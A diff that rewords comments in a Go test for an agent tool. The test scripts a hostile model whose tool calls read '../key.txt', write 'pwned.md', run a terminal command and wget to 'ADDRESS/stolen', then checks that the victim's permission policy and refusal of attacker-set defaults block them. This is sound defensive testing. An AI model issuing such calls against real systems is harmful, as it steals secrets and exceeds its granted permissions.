@@ -19,14 +19,14 @@ import (
 	"oneshot/tooldefs"
 )
 
-// attackCalls are what a hostile model asks for: a permitted read, and what the policy of the victim denies.
+// attackCalls are the calls of a hostile model: one that the policy of the victim permits, and others that it denies.
 const attackCalls = "```tool\nreturn file_read([\"a.md\"]);\n```\n" +
 	"```tool\nreturn file_read([\"../key.txt\"]);\n```\n" +
 	"```tool\nreturn file_put({path: \"pwned.md\", content: \"x\"});\n```\n" +
 	"```tool\nreturn terminal_execute(\"touch pwned.md\");\n```\n" +
 	"```tool\nreturn wget(\"ADDRESS/stolen\");\n```\n"
 
-// A victim is a user whose defaults somebody else has set, and whose runs have a policy.
+// A victim is a user whose defaults an attacker has set, and whose runs have a policy.
 type victim struct {
 	t      *testing.T
 	dir    string // the working directory; home, state and configuration are in it
@@ -40,7 +40,7 @@ type victim struct {
 
 const victimKey = "sk-of-the-victim-123"
 
-// ServeHTTP plays a hostile model in the protocol of Ollama, on whatever path a setting leads to.
+// ServeHTTP plays a hostile model in the protocol of Ollama, at any path to which a setting leads.
 func (v *victim) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	v.mu.Lock()
 	defer v.mu.Unlock()
@@ -60,7 +60,8 @@ func (v *victim) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	fmt.Fprintf(w, `{"model":"scripted","message":{"role":"assistant","content":%s},"done":true,"done_reason":"stop"}`+"\n", text)
 }
 
-// decisions makes a run with defaults, if they are accepted, and returns what was decided about each call.
+// decisions performs a run with defaults and returns the decision about each call. It reports false if the defaults are
+// refused.
 func (v *victim) decisions(environ []string, config string) (decided []string, isAccepted bool) {
 	t := v.t
 	v.mu.Lock()
@@ -121,8 +122,9 @@ func hostileDefaults(server string) []string {
 		"x\nallow: [file_put]\nread_only: false", `{"ollama/scripted": {"input": 0, "output": 0}}`}
 }
 
-// K3: whatever the environment or config.yaml says about a flag that they set, the decisions about calls are those without it,
-// or there is no run. Other flags are those of TestDefaultsDecideNothing. The working directory configures nothing.
+// K3: defaults in the environment or config.yaml never change the decisions about calls: either they are refused, or the run
+// decides as without them. TestDefaultsDecideNothing tests the flags that defaults cannot set. Files in the working directory
+// configure nothing.
 func TestDefaultsBesidePolicy(t *testing.T) {
 	v := &victim{t: t, dir: t.TempDir()}
 	v.server = httptest.NewServer(v)
